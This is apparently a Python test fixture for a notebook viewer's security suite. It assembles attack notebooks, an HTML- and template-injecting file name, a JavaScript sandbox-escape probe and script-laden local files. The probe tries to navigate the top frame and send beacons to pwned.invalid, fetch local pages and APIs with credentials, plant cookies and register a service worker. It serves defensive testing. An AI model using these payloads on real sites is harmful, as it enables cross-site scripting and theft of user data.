"""The files of all attacks: known ones as they were found, and ours on what this viewer draws by itself."""

import json
from pathlib import Path
from typing import Final

from tests.notebooks import code, markdown, notebook, shows
from tests.web.attacks.surfaces import NOTEBOOKS, TEXTS

CASES: Final = json.loads(
    (Path(__file__).parents[2] / "data" / "attacks" / "notebooks.json").read_text("utf-8")
)
EVIL_NAME: Final = "<img src=x onerror=window.__pwned=1>\"'&{{7*7}}.ipynb"
CONTENT: Final = {
    **{f"{case['name']}.ipynb": json.dumps(case["notebook"]).encode() for case in CASES["content"]},
    **{f"own-{name}.ipynb": content for name, content in NOTEBOOKS.items()},
    **{name: text.encode() for name, text in TEXTS.items()},
    EVIL_NAME: NOTEBOOKS["named"],
}
"""Content that runs where it is not cleaned."""
MANY: Final = [name for name in CONTENT if name.startswith(("cells-", "own-"))]
"""Those in which most of the attacks are."""

_TRIES: Final = """
window.found = {};
const tried = async (name, what) => { try { window.found[name] = String(await what()) } catch (e) { window.found[name] = e.name } };
Promise.all([
  tried("origin", () => self.origin),
  tried("parent", () => window === parent ? "SecurityError" : parent.document.title),
  tried("top", () => window === top ? "SecurityError" : (top.location = "http://pwned.invalid/top", "asked")),
  tried("replace", () => window === top ? "SecurityError" : (top.location.replace("http://pwned.invalid/replace"), "asked")),
  tried("alert", () => (alert("password?"), confirm("?"), prompt("?"), "silent")),
  tried("database", () => indexedDB.open("x") && "open"),
  tried("caches", () => caches.open("x").then(() => "open")),
  tried("worker", () => navigator.serviceWorker.register("/home.js").then(() => "registered")),
  tried("page", () => fetch("/local/quiet.ipynb", {credentials: "include"}).then((answer) => answer.text())),
  tried("api", () => fetch("/api/v1/openapi.json", {credentials: "include"}).then((answer) => answer.text())),
  tried("job", () => fetch("/api/v1/jobs", {method: "POST", credentials: "include",
    headers: {"content-type": "application/json"}, body: '{"url": "/local/quiet.ipynb"}'}).then((answer) => answer.text())),
  tried("cookie", () => { document.cookie = "planted=1; path=/"; return "kept in memory" }),
]).then(() => { document.getElementById("done").textContent = "tried all" });
// By itself, a document is its own top, and may leave.
for (const target of window === top ? [] : ["_top", "_parent"]) {
  const link = Object.assign(document.createElement("a"), {href: "http://pwned.invalid/" + target, target});
  document.body.append(link); link.click();
  const form = Object.assign(document.createElement("form"), {action: "http://pwned.invalid/form", target});
  document.body.append(form); form.submit();
}
const file = Object.assign(document.createElement("a"), {href: "data:,x", download: "x.exe"});
document.body.append(file); file.click();
navigator.sendBeacon("http://pwned.invalid/beacon", "x");
for (const src of ["/local/quiet.ipynb", "http://pwned.invalid/frame"])
  document.body.append(Object.assign(document.createElement("iframe"), {src}));
new BroadcastChannel("app").postMessage("heard");
for (let count = 0; count < 200; count++) try { history.pushState(0, "", "#" + count) } catch (e) {}
"""
ESCAPE: Final = notebook(
    markdown("# Escape"),
    code("x", shows(text_html=f"<p id=done>-</p><script>{_TRIES}</script>")),
    # By themselves, so that what one of them breaks stops no other.
    *(
        cell
        for case in CASES["escape"]
        if "popup" not in case["name"]
        for cell in case["notebook"]["cells"][:1]
    ),
)
"""What a script tries that wants out of its box."""

LOCAL: Final = {
    "page.html": b"<script>window.__pwned='html'</script>",
    "page.xhtml": b"<html xmlns='http://www.w3.org/1999/xhtml'><script>window.__pwned=1</script></html>",
    "script.js": b"window.__pwned='js'",
    "style.css": b"body{background:red}",
    "page.pdf": b"%PDF-1.7\n",
    "page.xml": b"<?xml version='1.0'?><x xmlns='http://www.w3.org/1999/xhtml'><script>1</script></x>",
    "page.mht": b"From: x\n\n<script>window.__pwned=1</script>",
    "page.png": b"<script>window.__pwned='png'</script>",
    "picture.svg": b"<svg xmlns='http://www.w3.org/2000/svg'><script>window.__pwned='svg'</script></svg>",
}
"""Files beside notebooks that a browser would run."""
FILES: Final = {**CONTENT, "escape.ipynb": ESCAPE, **LOCAL}
